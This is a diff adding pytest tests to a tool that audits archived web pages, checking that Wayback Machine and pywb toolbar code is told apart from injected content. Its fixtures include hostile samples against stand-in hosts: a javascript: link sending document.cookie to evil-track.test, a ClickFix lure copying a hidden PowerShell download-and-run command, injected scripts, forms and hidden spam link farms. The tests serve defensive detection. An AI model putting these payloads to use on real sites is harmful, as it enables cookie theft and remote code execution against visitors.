@@ -11,6 +11,7 @@ links to archived copies.
 from __future__ import annotations
 
 import io
+import time
 from pathlib import Path
 
 import lxml.html
@@ -446,6 +447,16 @@ _DRESSED = [
     '<div style="position:absolute;left:-9999px">' + "".join(
         f'<a href="\\\\casino-bonus{i}.test\\">online casino bonus {i}</a> ' for i in range(30)
     ) + "</div>",
+    # links to the archive's copies of other sites, or to another host after a user name
+    '<div style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="https://web.archive.org/web/2023/https://casino-bonus{i}.test/">online casino '
+        f"bonus {i}</a> " for i in range(30)) + "</div>",
+    '<div style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="/web/2023/casino-bonus{i}.test/">online casino bonus {i}</a> '
+        for i in range(30)) + "</div>",
+    '<div style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="https://web.archive.org@casino-bonus{i}.test/">online casino bonus {i}</a> '
+        for i in range(30)) + "</div>",
     '<script src="/web/20230105123456js_/https:/\n/evil-track.test/x.js"></script>',
     # an item anyone can upload to archive.org is no file of the archive's chrome
     '<script src="https://archive.org/download/harbour-kit/loader.js"></script>'
@@ -473,6 +484,29 @@ def test_an_injection_dressed_as_the_archives_chrome_is_audited_as_it_is(
     dressed, bare = page(True), page(False)
     assert dressed.replay is not None
     assert _what_it_names(dressed) == _what_it_names(bare)
+
+
+@pytest.mark.parametrize("base", [
+    '<base href="https://evil-track.test/">', "<base href='//evil-track.test/'>",
+    '<base target="_top" href="https:\\\\evil-track.test\\">',
+])
+def test_a_path_from_the_root_the_pages_base_sends_elsewhere_is_not_the_archives(
+    base: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # a page whose links are all absolute (WordPress) loses nothing to an injected <base>,
+    # and the toolbar's `/static/…` then loads from the base's host: that host's frame
+    def page(dressed: bool) -> PageReport:
+        start, end = _TOOLBAR if dressed else ("", "")
+        text = (f"<!DOCTYPE html>\n<html><head>{base}{_WOMBAT_OF_SITE}</head><body>\n{start}"
+                '<iframe src="/static/f.html" width="0" height="0" style="display:none">'
+                f"</iframe>{end}\n<article><p>The council voted.</p></article></body></html>")
+        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                              engine, catalogue)
+
+    dressed = page(True)
+    assert dressed.replay is not None
+    assert [h.host for h in dressed.third_party_hosts] == ["evil-track.test"]
+    assert _what_it_names(dressed) == _what_it_names(page(False))
 
 
 def test_chrome_loads_from_the_archive_not_from_the_host_its_marks_name() -> None:
@@ -541,3 +575,148 @@ def test_chrome_comments_inside_a_tag_or_a_script_are_no_chrome(
     bare = audit(page.replace("WAYBACK", "WEATHER").replace("Wayback", "Weather"))
     assert dressed.replay is not None
     assert _what_it_names(dressed) == _what_it_names(bare)
+
+
+@pytest.mark.parametrize("chrome", [
+    "<script>__wm.bt(" + " " * 200_000 + "x</script>",
+    "<script>__wm.bt([" + " " * 200_000 + "x</script>",
+    "<script>window.RufflePlayer.config={" + " " * 200_000 + "x</script>",
+    "<script>" + "'<!--';" * 30_000 + "</script>",
+])
+def test_a_chrome_region_is_read_in_one_pass(chrome: str) -> None:
+    # blanks a call's arguments could split many ways, or a script full of '<!--' with no
+    # '<script' after, took minutes per 100 KB (20 KB of blanks: 11 s) before
+    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{chrome}{_TOOLBAR[1]}"
+            "<p>story</p></body></html>")
+    began = time.monotonic()
+    _, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and time.monotonic() - began < 10
+
+
+def test_a_trailer_before_ten_in_the_morning_still_says_a_wayback_copy() -> None:
+    # the trailer of 2011-2016 captures writes the hour unpadded (`3:42:17 Mar 22, 2015`):
+    # a copy saved with no URL and no other mark read as no replay, its /web/ links kept
+    text = ('<html><body><p>The council voted.</p><a href="/web/20150322034217/http://www.'
+            'harbour-gazette.test/ferry">Ferry</a></body></html>\n<!--\n     FILE ARCHIVED ON '
+            '3:42:17 Mar 22, 2015 AND RETRIEVED FROM THE\n     INTERNET ARCHIVE ON 1:33:03 Apr 13,'
+            ' 2017.\n-->\n')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and replay.captured == "2015-03-22T03:42:17Z"
+    assert 'href="http://www.harbour-gazette.test/ferry"' in doc.text
+
+
+# the toolbar as the Wayback Machine served it in 2018-2022: share buttons opening the share
+# box, a 'save snapshot' call naming the page, a form sending to the archive's search, the
+# capture notice's `source` and the share links' `data-url`
+_TOOLBAR_2018 = (
+    '<div id="wm-ipp-base" lang="en" style="display:none;direction:ltr;"><div id="wm-ipp">'
+    '<form target="_top" method="get" action="https://web.archive.org/web/submit" name="wmtb">'
+    '<input type="text" name="url" value="https://www.harbour-gazette.test/" '
+    'onfocus="this.focus();this.select();"></form>'
+    '<a href="#" onclick="__wm.saveSnapshot(\'https://www.harbour-gazette.test/\', '
+    '\'20230105123456\')" title="Share via My Web Archive"><span class="iconochive-web">'
+    '</span></a>'
+    '<a href="#" onclick="window.open(\'https://www.facebook.com/sharer/sharer.php?u=https://'
+    'web.archive.org/web/20230105123456/https://www.harbour-gazette.test/\', \'\', '
+    '\'height=400,width=600\'); return false;" title="Share on Facebook" target="_blank">'
+    '<span class="iconochive-facebook"></span></a>'
+    '<a id="wm-share-twitter" href="#" data-url="https://web.archive.org/web/20230105123456/'
+    'https://www.harbour-gazette.test/" title="Share on Twitter"></a>'
+    '<img onmouseover="__wm.st(1)" onmousemove="__wm.mv(event,this)" alt="sparklines" '
+    'src="/static/images/toolbar/sparkline.png">'
+    '<div id="wm-capinfo-notice" source="api"></div>'
+    '<span class="c-logo" style="background-image:url(https://archive.org/services/img/'
+    'webwidecrawl);"></span></div></div>'
+)
+
+
+def test_the_2018_toolbar_is_the_archives_chrome(engine: Engine, catalogue: Catalogue) -> None:
+    # refused, it left archive.org's logo as a third-party host and the share box's URLs
+    text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{_TOOLBAR[0]}"
+            f"{_TOOLBAR_2018}{_TOOLBAR[1]}\n<article><p>The council voted.</p></article>"
+            "</body></html>")
+    page = audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                          engine, catalogue)
+    assert page.replay is not None
+    assert page.third_party_hosts == () and page.findings == ()
+    assert not [r.url for r in page.resources if "static" in r.url]
+
+
+@pytest.mark.parametrize("injected", [
+    '<iframe src="/web/submit?url=evil-track.test/f&amp;type=replay" width="0" '
+    'height="0" style="display:none"></iframe>',
+    '<a href="#" onclick="window.open(\'https://evil-track.test/x\', \'\', \'width=600\'); '
+    'return false;">Share</a>',
+    '<a href="#" onclick="__wm.saveSnapshot(\'https://evil-track.test/x.js\')">Save</a>',
+    '<a href="/" data-url="javascript:fetch(\'//evil-track.test/\'+document.cookie)">x</a>',
+    '<form action="https://evil-track.test/web/submit"><input name="q"></form>',
+])
+def test_the_toolbars_handlers_and_form_carry_nothing_else(
+    injected: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
+            "<p>story</p></body></html>")
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text,
+                                     url="https://www.harbour-gazette.test/"))
+    assert replay is not None and injected in doc.text
+
+
+def test_the_toolbar_links_to_the_audited_page_not_to_the_original_its_marks_name(
+    engine: Engine, catalogue: Catalogue
+) -> None:
+    # the marks' original is the page's to write: naming casino.test there made a hidden
+    # block of 30 links to it the toolbar's, and the high hidden-links finding left the audit
+    marks = ('<script>__wm.wombat("https://casino-bonus.test/","20230105123456",'
+             '"https://web.archive.org/","web","https://web-static.archive.org/_static/","1");'
+             "</script>")
+    farm = '<div style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="https://casino-bonus.test/p{i}">online casino bonus {i}</a> '
+        for i in range(30)) + "</div>"
+
+    def page(dressed: bool) -> PageReport:
+        start, end = _TOOLBAR if dressed else ("", "")
+        text = (f"<!DOCTYPE html>\n<html><head>{marks}</head><body>\n{start}{farm}{end}\n"
+                "<article><p>The council voted.</p></article></body></html>")
+        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                              engine, catalogue)
+
+    dressed = page(True)
+    assert [(f.kind, f.severity.value) for f in dressed.findings] == [("hidden-links", "high")]
+    assert _what_it_names(dressed) == _what_it_names(page(False))
+
+
+@pytest.mark.parametrize("script", [
+    # the top-frame redirect to a URL it does not set just before, or to another site's
+    'wbinfo.top_url = "http://localhost:8080/c/2023/https://www.harbour-gazette.test/";\n'
+    "var x = 1;",
+    'wbinfo = {};\nwbinfo.top_url = "https://evil-track.test/";\n',
+    "",
+    # a script URL there runs: a ClickFix lure naming no host
+    'wbinfo = {};\nwbinfo.top_url = "javascript:navigator.clipboard.writeText(\'powershell -w '
+    "hidden -c iwr evil-track.test/a|iex')\";\n",
+])
+def test_pywbs_top_frame_redirect_is_chromes_only_beside_its_url(script: str) -> None:
+    # the framed replay's head insert (fixtures/replay/news-pywb.html) is chrome; the same
+    # redirect reading a top_url set elsewhere is a page's redirect
+    redirect = ("if (window == window.top && wbinfo.top_url) {\n  var loc = window.location.href"
+                '.replace(window.location.hash, "");\n  loc = decodeURI(loc);\n  if (loc != '
+                "decodeURI(wbinfo.top_url)) {\n    window.location.href = wbinfo.top_url + "
+                "window.location.hash;\n  }\n}")
+    text = ('<html><head><!-- WB Insert --><script>wbinfo.url = "https://www.harbour-gazette.test'
+            '/";wbinfo.timestamp = "20230105123456";wbinfo.prefix = decodeURI("http://localhost:'
+            f'8080/c/");{script}{redirect}</script><!-- End WB Insert --></head><body><p>story</p>'
+            "</body></html>")
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and redirect in doc.text
+
+
+@pytest.mark.parametrize("url", [
+    None, "https://web.archive.org/web/20121031174402/https://www.youtube.com/testtube"])
+def test_the_toolbars_capture_links_may_drop_the_pages_www(url: str | None) -> None:
+    # the toolbar links to captures of youtube.com/testtube from www.youtube.com's copy
+    text = ('<html><head><script>__wm.wombat("https://www.youtube.com/testtube","2012103117440'
+            '2","https://web.archive.org/","web","https://web-static.archive.org/_static/","1");'
+            f"</script></head><body>{_TOOLBAR[0]}<a href=\"https://web.archive.org/web/"
+            f'20121031174402/youtube.com/testtube#">Oct</a>{_TOOLBAR[1]}<p>s</p></body></html>')
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=url))
+    assert replay is not None and "testtube#" not in doc.text
